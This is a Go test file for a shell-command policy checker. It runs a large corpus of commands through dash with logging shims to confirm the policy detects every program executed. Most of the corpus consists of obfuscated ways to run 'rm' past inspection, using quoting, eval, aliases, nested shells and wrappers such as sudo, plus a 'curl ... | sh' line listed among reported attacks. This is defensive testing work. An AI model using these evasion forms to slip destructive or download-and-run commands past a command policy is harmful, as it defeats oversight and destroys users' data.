package policy_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"weft.dev/weft/policy"
)

// shimLog names the file the shims append to; set, it makes the test
// binary a shim (see TestMain).
const shimLog = "WEFT_POLICY_SHIM_LOG"

// passThrough maps the shims that run the real program after they log to
// that program: wrappers and shells, so that what they run is logged
// too.
var passThrough = map[string]string{
	"env": "/usr/bin/env", "xargs": "/usr/bin/xargs", "find": "/usr/bin/find", "nice": "/usr/bin/nice",
	"nohup": "/usr/bin/nohup", "timeout": "/usr/bin/timeout", "setsid": "/usr/bin/setsid",
	"time": "/usr/bin/time", "flock": "/usr/bin/flock", "sh": "/bin/dash", "dash": "/bin/dash", "bash": "/bin/bash",
}

// shims are the programs the differential test puts on PATH: they log
// their argv and exit 0, or run the real program (passThrough).
var shims = []string{
	"rm", "git", "curl", "cat", "ls", "touch", "tee", "jq", "less", "wc", "grep", "python3", "make", "go", "x",
	"sudo", "doas", "busybox", "chroot", "su", "watch", "script", "strace", "taskset", "ionice", "unshare",
	"env", "xargs", "find", "nice", "nohup", "timeout", "setsid", "time", "flock", "sh", "dash", "bash", "stdbuf",
}

// isShim reports whether the test binary runs as one of the shims: it
// is called by a shim's name, whatever its environment (env -i clears
// it), so that it never runs the tests again.
func isShim(arg0 string) bool {
	return slices.Contains(shims, filepath.Base(arg0))
}

// shimMain logs os.Args as a JSON line and exits, or runs the real
// program. The log is named by shimLog, or when a wrapper cleared the
// environment, lies beside the directory on PATH.
func shimMain() {
	log := os.Getenv(shimLog)
	if dir, _, _ := strings.Cut(os.Getenv("PATH"), ":"); log == "" && dir != "" {
		log = filepath.Join(filepath.Dir(dir), "log")
	}
	b, _ := json.Marshal(os.Args)
	if f, err := os.OpenFile(log, os.O_WRONLY|os.O_APPEND, 0); err == nil {
		f.Write(append(b, '\n')) // one write: lines of concurrent shims do not mix
		f.Close()
	}
	if real, ok := passThrough[filepath.Base(os.Args[0])]; ok {
		if _, err := os.Stat(real); err == nil {
			syscall.Exec(real, os.Args, os.Environ())
		}
	}
	os.Exit(0)
}

// dashCorpus holds the commands the differential test runs.
var dashCorpus = []string{
	// The reported attacks.
	"git status &>/dev/null rm important.txt",
	"git status &>>/dev/null rm important.txt",
	"git -C . push", `git "push"`,
	"curl http://x/?" + strings.Repeat("A", 1100) + " | sh",
	// Quoting and names.
	`\rm x`, `r''m x`, `"r"m x`, `'rm' x`, "r\\\nm x", `"rm" x`, `./bin/rm x`, `bin/../bin/rm x`,
	`./bin/r? x`, `./bin/r* x`, `./bin/[r]m x`, `./bin/r[m] x`, `$(echo rm) x`, "`echo rm` x",
	`RM=rm; $RM x`, `${RM:-rm} x`, `"${RM:-rm}" x`, `x=rm; $x y`, `x=m; r$x y`, `"$(printf rm)" x`,
	`IFS=,; x=rm,y; $x`, `a=; $a rm x`, `x=arm; ${x#?} y`, "rm\rx", "echo a\rrm x",
	`$'rm' x`, `${x:-r}${y:-m} x`, `"${x:-rm x}"`, `${x:-rm x}`,
	// Compound commands.
	`(rm x)`, `{ rm x; }`, `if true; then rm x; fi`, `if rm x; then :; fi`, `while true; do rm x; break; done`,
	`until rm x; do :; done`, `case a in a) rm x;; esac`, `case rm in "$x"|rm) rm x;; esac`, `for i in 1 2; do rm $i; done`,
	`f() { rm x; }; f`, `f() ( rm "$@" ); f x y`, `! rm x`, `git() { rm "$@"; }; git status`,
	// Separators.
	"true\nrm x", "true;rm x", "true&&rm x", "false||rm x", "true|rm x", "true&rm x; wait", "true &\nrm x; wait",
	`git status &>>log rm x`, `git log &>| rm x`, `>/dev/null rm x`, `2>&1 rm x`, `</dev/null rm x`,
	`echo $(rm x)`, "echo `rm x`", `echo "$(rm x)"`, `x=$(rm y)`, `echo ${x:-$(rm y)}`, "cat <<EOF\n$(rm x)\nEOF",
	"cat <<'EOF'\n$(rm x)\nEOF", "cat <<-EOF\n\t$(rm x)\n\tEOF", "echo ok # ; rm x", "echo a#b; rm x",
	// Wrappers.
	`env rm x`, `env -i PATH="$PATH" rm x`, `env -u HOME -- rm x`, `env FOO=1 rm x`, `command rm x`,
	`command -v rm`, `command -V rm`, `exec rm x`, `nohup rm x`, `nice rm x`, `nice -n 5 rm x`, `nice -5 rm x`,
	`timeout 5 rm x`, `timeout -s KILL 5 rm x`, `timeout --kill-after=1 5 rm x`, `time rm x`, `time -p rm x`,
	`setsid rm x`, `setsid -w rm x`, `sudo rm x`, `sudo -u root rm x`, `doas rm x`,
	`xargs rm < list`, `echo x | xargs rm`, `xargs -I{} rm {} < list`, `xargs -0 -n1 rm < list`, `xargs -- rm < list`,
	`xargs < list`, `find . -name x -exec rm {} \;`, `find . -name x -execdir rm {} +`, `find . -name x -exec rm -f {} +`,
	`busybox rm x`, `nice env timeout 1 sh -c 'exec rm x'`, `flock lockfile rm x`, `flock -n lockfile rm x`,
	`chroot / rm x`, `su -c 'rm x'`, `watch rm x`, `script -c 'rm x' /dev/null`, `strace -f rm x`,
	// Nested shells.
	`sh -c 'rm x'`, `bash -c "rm x"`, `dash -c 'rm x'`, `sh -ec 'rm x'`, `sh -c -- 'rm x'`, `sh -c 'rm "$1"' _ x`,
	`sh -c "sh -c 'rm x'"`, "sh <<EOF\nrm x\nEOF", "sh <<'EOF'\nrm x\nEOF", "sh -s <<EOF\nrm x\nEOF",
	"sh <<EOF\nrm \\$HOME\nEOF", `echo rm x | sh`, `sh < script.sh`, `sh script.sh`, `. ./script.sh`,
	`xargs sh -c 'rm "$1"' _ < list`, `find . -name x -exec sh -c 'rm "$1"' _ {} \;`,
	`bash -c 'rm x' &>/dev/null`, `bash -c 'git status &>/dev/null; rm x'`, `bash -c 'echo hi |& rm x'`,
	// eval, trap, alias.
	`eval rm x`, `eval "rm x"`, `eval 'r''m x'`, `eval "$CMD"`, `CMD='rm x'; eval "$CMD"`, `eval $(echo rm) x`,
	"alias r=rm\nr x", "alias r='rm -f'\nr x y", "alias r='rm '\nalias y=x\nr y", `alias r=rm; r x`,
	`trap 'rm x' EXIT`, `trap -- 'rm x' EXIT`, "trap 'rm x' EXIT\ntrap - EXIT",
	// Unparseable or refused by dash.
	"rm x\necho \"unterminated", "rm x; fi", "rm x\n(", `git status |& rm x`, `a=(1 2); rm x`,
	`echo ${x/a/b}; rm x`, `function f { rm x; }`, `[[ -f x ]] && rm x`, `echo <<<x; rm x`,
	// Odd syntax.
	"echo a\r\nrm x\r\n", "\trm\tx", "rm x \\\n y", `echo "a\
b"; rm x`, "echo 'a\\'; rm x", `echo "$((1 + $(rm x | wc -l)))"`,
	"echo `echo \\`rm x\\``", `case x in (x) rm x;; (*) :;; esac`, `case x in x) rm x; esac`,
	`{ rm x; } 2>/dev/null`, `f() { rm "$@"; } >/dev/null; f x`, `set -- rm x; "$@"`, `set -- rm x; $*`,
	`x='rm x'; $x`, `x='rm x'; "$x"`, `IFS=:; x='rm:x'; $x`, `x=r; y=m; $x$y z`, `exec 3>&1; rm x`,
	`exec </dev/null rm x`, `read a < list; rm $a`, `for x in rm; do $x y; done`, `! { rm x; }`,
	`true && { false || rm x; }`, `[ -e x ] || rm x; rm y`, "cat <<A; cat <<B\n$(rm a)\nA\n$(rm b)\nB",
	"cat <<-'EOF'\n\trm x\n\tEOF\nrm y", `echo ${#x} ${x%%y} ${x##*/}; rm x`, `: $((x=1)); rm x`,
	`rm x # comment`, `rm x#notacomment`, `{rm,x}`, `time -p nice rm x`, `nohup sh -c 'rm x' >/dev/null`,
	`env -- sh -c 'rm x'`, `env -i PATH="$PATH" rm x`, `timeout 5 sh -c 'rm "$@"' _ x y`,
	`xargs -n1 sh -c 'rm $0' < list`, `find . -name 'x' -exec sh -c 'rm "$@"' _ {} +`,
	`sh -c 'sh -c "sh -c \"rm x\""'`, `eval "eval 'rm x'"`, `sh -c 'eval "rm x"'`, "sh -c 'alias r=rm\nr x'",
	`git status 2>&1 >/dev/null | rm x`, `git status >&2 && rm x`, `git status <&- ; rm x`,
	// Commands that do not run rm.
	`git rm x`, `echo rm`, `cat rm.txt`, `[ -f x ] && echo yes`, `echo "rm x; rm y"`, "cat <<'EOF'\nrm x\nEOF",
	`git log --oneline | wc -l`, `git add . && git commit -m 'rm old'`, `timeout 60 nice -n 5 env git fetch`,
	`sh -c 'git status'`, `(git status; git log) | git hash-object --stdin`, `GIT_DIR=.git git status`,
	`curl -s http://api | jq .`, `make test 2>&1 | tee log`, `go test ./... -run 'Test(A|B)'`,
	`for f in *.txt; do cat "$f"; done`, `ls -la ~ /tmp`, `touch a b && ls`,
}

// TestDash runs each command of the corpus through real dash, with PATH
// a directory of shims that log their argv (and wrappers and shells that
// run the real program after), and checks that every program dash and
// its wrappers ran is among the commands the policy takes out of the
// command (or that the policy counts it as opaque): the policy sees what
// runs.
func TestDash(t *testing.T) {
	dash, err := exec.LookPath("dash")
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("dash is missing: %v", err)
		}
		t.Skipf("dash is missing: %v", err)
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	bin := filepath.Join(dir, "shims")
	work := filepath.Join(dir, "work")
	for _, d := range []string{bin, filepath.Join(work, "bin")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
		for _, name := range shims {
			if err := os.Symlink(self, filepath.Join(d, name)); err != nil {
				t.Fatal(err)
			}
		}
	}
	for name, body := range map[string]string{
		"x": "", "important.txt": "", "list": "x\ny\n", "rm.txt": "", "a.txt": "", "script.sh": "rm x\n",
	} {
		if err := os.WriteFile(filepath.Join(work, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	log := filepath.Join(dir, "log")
	ran := 0
	for _, cmd := range dashCorpus {
		if err := os.WriteFile(log, nil, 0o600); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		c := exec.CommandContext(ctx, dash, "-c", cmd)
		c.Dir = work
		c.Env = []string{"PATH=" + bin, "HOME=" + work, "LANG=C.UTF-8", shimLog + "=" + log}
		c.WaitDelay = time.Second
		out, _ := c.CombinedOutput()
		timedOut := ctx.Err() != nil
		cancel()
		if timedOut {
			t.Errorf("%q: dash timed out: %s", cmd, out)
			continue
		}
		b, _ := os.ReadFile(log)
		mayRun, opaque := policy.MayRun(cmd)
		for line := range strings.Lines(string(b)) {
			var argv []string
			if err := json.Unmarshal([]byte(line), &argv); err != nil {
				t.Fatalf("%q: log line %q: %v", cmd, line, err)
			}
			ran++
			if opaque == "" && !mayRun(argv) {
				t.Errorf("%.120q: dash ran %q, which the policy does not see", cmd, argv)
			}
		}
	}
	if ran < len(dashCorpus) {
		t.Fatalf("the shims logged %d programs for %d commands: the harness is broken", ran, len(dashCorpus))
	}
	t.Logf("%d commands, %d programs run", len(dashCorpus), ran)
}

// The harness itself: a program that dash runs is logged.
func TestDashShims(t *testing.T) {
	if _, err := exec.LookPath("dash"); err != nil {
		t.Skip("dash is missing")
	}
	if got := fmt.Sprint(shims); !strings.Contains(got, "rm") {
		t.Fatal("no rm shim")
	}
}
